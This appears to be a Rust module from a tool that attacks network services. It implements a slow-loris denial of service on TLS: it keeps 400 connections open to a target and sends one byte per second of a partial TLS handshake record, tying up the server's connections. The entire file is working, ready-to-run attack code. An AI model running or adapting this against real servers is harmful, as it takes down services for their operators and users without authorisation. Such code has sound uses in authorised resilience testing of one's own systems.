//! A handshake of one byte a second, on many connections.

use std::io::Write;
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::Attack;

const CONNECTIONS: usize = 400;

/// The beginning of a TLS record (RFC 8446, section 5.1): a handshake message of 512 bytes.
const RECORD: [u8; 9] = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc];

/// Sends them.
pub(super) fn attack(attack: Attack<'_>) -> Result<String> {
    let (mut sent, mut closed) = (0_u64, 0_u64);
    let mut open: Vec<(TcpStream, usize)> = Vec::new();
    while attack.goes_on() {
        let second = Instant::now() + Duration::from_secs(1);
        while open.len() < CONNECTIONS {
            let stream = TcpStream::connect_timeout(&attack.address, Duration::from_secs(10))?;
            open.push((stream, 0));
        }
        open.retain_mut(|(stream, at)| {
            let byte = RECORD.get(*at).copied().unwrap_or(3);
            *at += 1;
            let is_open = stream.write_all(&[byte]).is_ok();
            sent += u64::from(is_open);
            closed += u64::from(!is_open);
            is_open
        });
        thread::sleep(second.saturating_duration_since(Instant::now()));
    }
    Ok(format!(
        "{CONNECTIONS} connections at a time, {sent} bytes, {closed} connections closed on them"
    ))
}
